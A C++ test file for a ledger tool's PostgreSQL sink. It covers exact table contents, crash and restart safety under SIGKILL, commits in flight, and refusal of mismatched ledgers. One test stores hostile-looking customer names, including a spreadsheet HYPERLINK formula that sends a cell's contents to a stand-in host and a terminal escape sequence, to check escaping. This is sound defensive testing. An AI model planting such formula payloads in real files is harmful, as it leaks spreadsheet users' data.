// `ledgerctl sink postgres` against a real PostgreSQL server
// (postgres_sink_fixture.h): the tables equal the exports, exactly once through
// kills, restarts, a stopped database and two sinks, and the refusals of
// another ledger or layout.
//
// CCL_SINK_LONG=1 runs the randomized kill test 60 times instead of 10;
// CCL_SINK_SEED=N repeats a run (the seed is printed).
#include "tests/tools/sink/postgres_sink_fixture.h"

namespace ccl::sink {
namespace {

TEST_F(PostgresSinkTest, TablesEqualTheCsvExportsRowForRow) {
  const uint64_t head = Import(25, 90, 7);
  ASSERT_GT(head, 1000u);
  ASSERT_EQ(Ledgerctl(SinkArgs({"--batch", "400"})), 0) << Err();
  EXPECT_NE(Err().find("(tables created); checkpoint at seq"), std::string::npos) << Err();
  auto c = Db();
  const std::vector<std::pair<std::vector<std::string>, int>> exports = {
      {{"export", "balances"}, 2},
      {{"export", "margins", "--by", "customer,contract,month"}, 3},
      {{"export", "escalations"}, 2},
      {{"export", "burn"}, 2}};
  for (size_t i = 0; i < exports.size(); ++i) {
    ASSERT_EQ(Ledgerctl(exports[i].first), 0) << Err();
    const std::string csv = ReadFile(out_);
    ASSERT_GT(feed::testing::Lines(csv).size(), 2u) << kTables[i].first;
    EXPECT_EQ(TableCsv(c.get(), kTables[i].first, csv.substr(0, csv.find('\n')), exports[i].second),
              csv)
        << kTables[i].first;
  }
  ASSERT_NO_FATAL_FAILURE(ExpectEventRowsAreTheLedgers(c.get(), head));
  // Margins carry the contract's currency, from the rows.
  EXPECT_EQ(Number(c.get(),
                   "SELECT count(*) FROM margins m JOIN events e ON e.contract = "
                   "m.contract AND e.type = 'ContractOpened' WHERE "
                   "e.payload->>'currency' <> m.currency"),
            0u);
  EXPECT_GT(Number(c.get(), "SELECT count(*) FROM margins"), 0u);
  // Every payload with an amount names its currency, the contract's (as
  // `log --json` prints it).
  EXPECT_EQ(Number(c.get(),
                   "SELECT count(*) FROM events b JOIN events o ON o.contract = b.contract AND "
                   "o.type = 'ContractOpened' WHERE b.type IN ('HoursBooked', "
                   "'DeliveryCompleted') AND (b.payload->>'currency') IS DISTINCT FROM "
                   "(o.payload->>'currency')"),
            0u);
  EXPECT_GT(Number(c.get(), "SELECT count(*) FROM events WHERE type = 'HoursBooked'"), 0u);
  ExpectConsistent();
  // A second run finds nothing to do and changes nothing.
  ASSERT_EQ(Ledgerctl(SinkArgs()), 0) << Err();
  EXPECT_NE(Err().find("synced 0 events"), std::string::npos) << Err();
  ExpectConsistent();
}

// The first batch into an empty events table builds its secondary indexes
// after the COPY: afterwards the table has every index and constraint of the
// layout, as a schema that never saw an event has them, and they hold.
TEST_F(PostgresSinkTest, FirstBatchLeavesEveryIndexOfTheLayout) {
  const std::string empty_db = dir_.Sub("empty");
  ASSERT_EQ(Ledgerctl({"--quiet", "init"}, empty_db), 0) << Err();
  const std::string fresh = schema_ + "_fresh";
  ASSERT_EQ(Ledgerctl({"sink", "postgres", "--conninfo", server_->conninfo(), "--schema", fresh},
                      empty_db),
            0)
      << Err();
  Import(10, 60, 23);
  ASSERT_EQ(Ledgerctl(SinkArgs({"--batch", "1000000"})), 0) << Err();
  auto c = Db();
  ASSERT_NE(c, nullptr);
  auto layout = [&](const std::string& schema) {
    return QueryCsv(c.get(),
                    "SELECT indexname, replace(indexdef, '" + schema +
                        ".', '') FROM pg_indexes WHERE schemaname = '" + schema +
                        "' AND tablename = 'events' UNION ALL SELECT conname, "
                        "pg_get_constraintdef(oid) FROM pg_constraint WHERE conrelid = '" +
                        schema + ".events'::regclass ORDER BY 1, 2",
                    "name,definition");
  };
  const std::string want = layout(fresh);
  EXPECT_EQ(feed::testing::Lines(want).size(), 1u + 4 + 6) << want;  // 4 indexes, 6 constraints
  EXPECT_EQ(layout(schema_), want);
  std::vector<PgConnection::Row> rows;
  const Status dup = c->Query(
      "INSERT INTO events SELECT seq + 1000000, event_id, type, contract, stream_version + "
      "1000000, effective_at, recorded_at, actor, source, note, payload, stored, chain_hash "
      "FROM events WHERE seq = 1 RETURNING seq",
      &rows);
  EXPECT_TRUE(dup.IsCorruption()) << dup.ToString();  // an integrity violation
  ExpectConsistent();
}

// The tables hold the exact text of the events: the spreadsheet
// neutralising of CSV files (a ' before a formula, control characters
// escaped) is for files only, not for the COPY that moves rows into SQL.
TEST_F(PostgresSinkTest, TextColumnsHoldTheEventsExactText) {
  const std::vector<std::string> names = {"=HYPERLINK(\"http://x/?a=\"&A1,\"Click\")",
                                          "Evil \x1b[2J; \"quoted\", \\. end", "'tis -1 @home +x",
                                          "\\.", "tab\there\r\nnext"};
  {
    auto w = OpenLedgerAt(db_, false);
    ledger::testing::EventFactory f;
    for (size_t i = 0; i < names.size(); ++i) {
      const std::string contract = "N-" + std::to_string(i + 1);
      events::Event open = f.Open(contract);
      open.customer = names[i];
      AppendOrDie(w.get(), {open});
      AppendOrDie(w.get(), Bookings(&f, contract, 2));
    }
  }
  ASSERT_EQ(Ledgerctl(SinkArgs()), 0) << Err();
  auto c = Db();
  ASSERT_NE(c, nullptr);
  const std::vector<PgConnection::Row> rows =
      QueryRows(c.get(),
                "SELECT m.contract, m.customer, e.payload->>'customer', e.contract FROM margins m "
                "JOIN events e ON e.contract = m.contract AND e.type = 'ContractOpened' ORDER BY "
                "m.contract");
  ASSERT_GE(rows.size(), names.size());
  for (const PgConnection::Row& r : rows) {
    const size_t i = std::stoul(r[0]->substr(2)) - 1;
    ASSERT_LT(i, names.size());
    EXPECT_EQ(*r[1], names[i]);
    EXPECT_EQ(*r[2], names[i]);
    EXPECT_EQ(*r[0], *r[3]);
  }
  EXPECT_EQ(Number(c.get(),
                   "SELECT count(*) FROM balances b WHERE NOT EXISTS (SELECT 1 FROM events e "
                   "WHERE e.contract = b.contract AND e.type = 'ContractOpened')"),
            0u);
  EXPECT_EQ(Number(c.get(), "SELECT count(DISTINCT contract) FROM balances"), names.size());
}

// Kills land at random moments of real runs at whatever speed the machine
// has now: each waits for a random number (0..3) of the run's commits, then
// for a random part of the time a commit has taken in the runs so far, so
// that it falls in the run's start, its encoding, its COPY or its COMMIT.
// Most kills must land while the sink still had events to write.
TEST_F(PostgresSinkTest, SigkillAtRandomMomentsThenRestartWritesEveryEventOnce) {
  const int kills = std::getenv("CCL_SINK_LONG") != nullptr ? 60 : 10;
  // About 680 events per kill: a run writes about 140 before its kill.
  const uint64_t head = Import(3 * kills, 120, 11);
  const char* seed_env = std::getenv("CCL_SINK_SEED");
  const uint64_t seed = seed_env != nullptr ? std::strtoull(seed_env, nullptr, 10)
                                            : static_cast<uint64_t>(::time(nullptr));
  std::printf("SigkillAtRandomMoments: seed %llu (CCL_SINK_SEED=%llu repeats it), %d kills\n",
              static_cast<unsigned long long>(seed), static_cast<unsigned long long>(seed), kills);
  std::mt19937_64 rng(seed);
  auto c = Db();
  ASSERT_NE(c, nullptr);
  using Clock = std::chrono::steady_clock;
  Clock::duration per_commit = std::chrono::milliseconds(100);  // refined by each run
  uint64_t previous = 0;
  int mid_sync = 0, after_a_commit = 0;
  for (int i = 0; i < kills; ++i) {
    const Clock::time_point started = Clock::now();
    const pid_t pid = Start(SinkArgs({"--batch", std::to_string(10 + rng() % 50)}));
    const int commits_before_kill = static_cast<int>(rng() % 4);
    int commits = 0, code = -1;
    for (uint64_t seen = previous; commits < commits_before_kill && code < 0;) {
      std::this_thread::sleep_for(std::chrono::milliseconds(2));
      const uint64_t now = CheckpointSeq(c.get());
      if (now != seen) ++commits, seen = now;
      code = testing::ExitCode(pid);
      ASSERT_LT(Clock::now() - started, std::chrono::minutes(2)) << "the sink made no progress";
    }
    if (commits > 0) per_commit = (Clock::now() - started) / commits;
    std::uniform_int_distribution<int64_t> delay(0, per_commit.count());
    std::this_thread::sleep_for(Clock::duration(delay(rng)));
    if (code < 0) {  // else reaped already: its pid may be someone else's now
      subprocess::Signal(pid, SIGKILL);
      code = testing::Wait(pid);
    }
    ASSERT_TRUE(code == 128 + SIGKILL || code == 0) << code << " " << Err();
    uint64_t cp = 0;
    ExpectConsistent(&cp);
    ASSERT_GE(cp, previous) << "the checkpoint went back";
    previous = cp;
    if (code != 0 && cp < head) ++mid_sync;
    if (commits > 0) ++after_a_commit;
    if (HasFatalFailure()) return;
  }
  std::printf(
      "SigkillAtRandomMoments: %d of %d kills landed while the sink had events to write (%d "
      "after a commit of their run); at seq %llu of %llu\n",
      mid_sync, kills, after_a_commit, static_cast<unsigned long long>(previous),
      static_cast<unsigned long long>(head));
  EXPECT_GE(mid_sync, kills * 3 / 4) << "most runs finished before their kill: nothing was tested";
  ASSERT_EQ(Ledgerctl(SinkArgs()), 0) << Err();
  uint64_t cp = 0;
  ExpectConsistent(&cp);
  EXPECT_EQ(cp, head);
}

// A sink killed after it sent COMMIT leaves a backend that still commits
// its last batch: PostgreSQL notices the lost client only when it next
// reads from it. A deferred trigger makes that commit take seconds here, so
// the restart surely starts while it is in flight; the restart must wait
// for it and continue after it, not start from the checkpoint before it.
TEST_F(PostgresSinkTest, RestartWaitsForTheKilledSinksCommitInFlight) {
  Import(10, 60, 19);
  ASSERT_EQ(Ledgerctl(SinkArgs()), 0) << Err();
  uint64_t head = 0;
  {
    auto w = OpenLedgerAt(db_, false);
    ledger::testing::EventFactory f;
    AppendOrDie(w.get(), {f.Open("K-1")});
    AppendOrDie(w.get(), Bookings(&f, "K-1", 30));
    head = w->head().seq;
  }
  auto c = Db();
  ASSERT_NE(c, nullptr);
  // The first commit that writes the checkpoint from now on sleeps 3 s
  // (a sequence counts them: it is not rolled back with a transaction).
  const std::string counter = schema_ + ".slow_commits";
  ASSERT_TRUE(c->Exec("CREATE SEQUENCE " + counter + "; CREATE FUNCTION " + schema_ +
                      ".slow_commit() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN IF "
                      "nextval('" +
                      counter +
                      "') = 1 THEN PERFORM pg_sleep(3); END IF; "
                      "RETURN NULL; END $$; CREATE CONSTRAINT TRIGGER slow_commit AFTER INSERT "
                      "OR UPDATE ON sink_checkpoint DEFERRABLE INITIALLY DEFERRED FOR EACH ROW "
                      "EXECUTE FUNCTION " +
                      schema_ + ".slow_commit()")
                  .ok());
  // Backends sleeping in that commit, and backends waiting for a lock.
  const std::string activity =
      "SELECT count(*) FILTER (WHERE wait_event = 'PgSleep') * 10 + count(*) FILTER (WHERE "
      "wait_event_type = 'Lock') FROM pg_stat_activity";
  auto wait_for = [&](uint64_t want) {
    for (int i = 0; i < 6000; ++i) {
      if (Number(c.get(), activity) == want) return true;
      std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
    return false;
  };
  const pid_t killed = Start(SinkArgs());
  ASSERT_TRUE(wait_for(10)) << "the sink never reached its commit";
  subprocess::Signal(killed, SIGKILL);
  ASSERT_EQ(testing::Wait(killed), 128 + SIGKILL);
  ExpectConsistent();  // a reader meanwhile sees the state before that commit, whole
  const pid_t restart = Start(SinkArgs());
  EXPECT_TRUE(wait_for(11)) << "the restart did not wait while the killed sink's commit ran";
  EXPECT_EQ(testing::Wait(restart), 0) << Err();
  EXPECT_NE(Err().find("synced 0 events"), std::string::npos) << Err();
  uint64_t cp = 0;
  ExpectConsistent(&cp);
  EXPECT_EQ(cp, head);
}

TEST_F(PostgresSinkTest, DatabaseStoppedMidBatchExitsFourWritesNothingHalfAndResumes) {
  const uint64_t head = Import(30, 120, 13);
  const pid_t pid = Start(SinkArgs({"--batch", "100"}));
  // Wait for the first committed batch, so the stop lands while batches run.
  auto c = Db();
  for (int i = 0; i < 1000 && CheckpointSeq(c.get()) == 0; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  c.reset();
  ASSERT_EQ(server_->Stop("immediate"), 0);
  const int code = testing::Wait(pid);
  const std::string err = Err();
  ASSERT_EQ(server_->Start(), 0);
  ASSERT_EQ(code, 4) << err;
  EXPECT_NE(err.find("PostgreSQL server at " + server_->socket_dir()), std::string::npos) << err;
  uint64_t cp = 0;
  ExpectConsistent(&cp);
  EXPECT_LT(cp, head) << "the stop came after the sink finished: nothing was tested";
  ASSERT_EQ(Ledgerctl(SinkArgs()), 0) << Err();
  ExpectConsistent(&cp);
  EXPECT_EQ(cp, head);
}

TEST_F(PostgresSinkTest, TwoSinksOnOneSchemaNeverWriteAnEventTwice) {
  const uint64_t head = Import(10, 60, 17);
  const pid_t a = Start(SinkArgs({"--batch", "40"}));
  const std::string err_a = err_;
  const pid_t b = Start(SinkArgs({"--batch", "40"}));
  const int code_a = testing::Wait(a), code_b = testing::Wait(b);
  // The one that finds the checkpoint moved under it stops (exit 1); both
  // may also finish when one started after the other was done.
  for (const auto& [code, err] : {std::pair{code_a, ReadFile(err_a)}, {code_b, Err()}}) {
    EXPECT_TRUE(code == 0 ||
                (code == 1 && err.find("another sink writes there") != std::string::npos))
        << code << " " << err;
  }
  uint64_t cp = 0;
  ExpectConsistent(&cp);
  ASSERT_EQ(Ledgerctl(SinkArgs()), 0) << Err();
  ExpectConsistent(&cp);
  EXPECT_EQ(cp, head);
}

TEST_F(PostgresSinkTest, AnotherLedgerOrARewrittenOneIsRefused) {
  Import(10, 30, 3);
  const std::string old_copy = dir_.Sub("old-copy");
  std::filesystem::copy(db_, old_copy, std::filesystem::copy_options::recursive);
  const uint64_t early = OpenLedgerAt(db_, true)->head().seq;
  {
    auto w = OpenLedgerAt(db_, false);
    ledger::testing::EventFactory f;
    AppendOrDie(w.get(), {f.Open("X-1")});
    AppendOrDie(w.get(), Bookings(&f, "X-1", 20));
  }
  ASSERT_EQ(Ledgerctl(SinkArgs()), 0) << Err();
  uint64_t cp = 0;
  ExpectConsistent(&cp);
  ASSERT_EQ(cp, early + 21);

  // Another ledger (another id) into the same schema.
  const std::string other = dir_.Sub("other");
  Import(10, 30, 3, other);
  EXPECT_EQ(Ledgerctl(SinkArgs(), other), 3);
  EXPECT_NE(Err().find("refusing to mix two ledgers"), std::string::npos) << Err();

  // The same ledger, an older copy: shorter than the checkpoint.
  EXPECT_EQ(Ledgerctl(SinkArgs(), old_copy), 3);
  EXPECT_NE(Err().find("ends at seq " + std::to_string(early)), std::string::npos) << Err();

  // The older copy grown with other events: same id, another history.
  {
    auto w = OpenLedgerAt(old_copy, false);
    ledger::testing::EventFactory f;
    AppendOrDie(w.get(), {f.Open("Y-1")});
    AppendOrDie(w.get(), Bookings(&f, "Y-1", 30));
  }
  EXPECT_EQ(Ledgerctl(SinkArgs(), old_copy), 3);
  EXPECT_NE(Err().find("history was rewritten"), std::string::npos) << Err();
  ExpectConsistent(&cp);  // nothing was written by the refused runs
  EXPECT_EQ(cp, early + 21);
}

TEST_F(PostgresSinkTest, AnotherLayoutVersionIsRefused) {
  Import(5, 20, 5);
  ASSERT_EQ(Ledgerctl(SinkArgs()), 0) << Err();
  ASSERT_TRUE(Db()->Exec("UPDATE sink_schema SET version = 99").ok());
  EXPECT_EQ(Ledgerctl(SinkArgs()), 1);
  EXPECT_NE(Err().find("layout version 99; this ledgerctl writes layout version 2"),
            std::string::npos)
      << Err();
}

TEST_F(PostgresSinkTest, FollowSyncsAWriterUntilSigterm) {
  uint64_t head = Import(5, 20, 5);
  const pid_t pid = Start(SinkArgs({"--follow", "--poll-ms", "10"}));
  auto c = Db();
  auto wait_for = [&](uint64_t seq) {
    for (int i = 0; i < 2000; ++i) {
      if (CheckpointSeq(c.get()) >= seq) return true;
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
    return false;
  };
  ASSERT_TRUE(wait_for(head));
  {
    auto w = OpenLedgerAt(db_, false);  // a writer beside the sink
    ledger::testing::EventFactory f;
    AppendOrDie(w.get(), {f.Open("F-1")});
    for (int i = 0; i < 5; ++i) AppendOrDie(w.get(), Bookings(&f, "F-1", 3));
    head = w->head().seq;
  }
  ASSERT_TRUE(wait_for(head));
  subprocess::Signal(pid, SIGTERM);
  EXPECT_EQ(testing::Wait(pid), 0) << Err();
  uint64_t cp = 0;
  ExpectConsistent(&cp);
  EXPECT_EQ(cp, head);
}

}  // namespace
}  // namespace ccl::sink
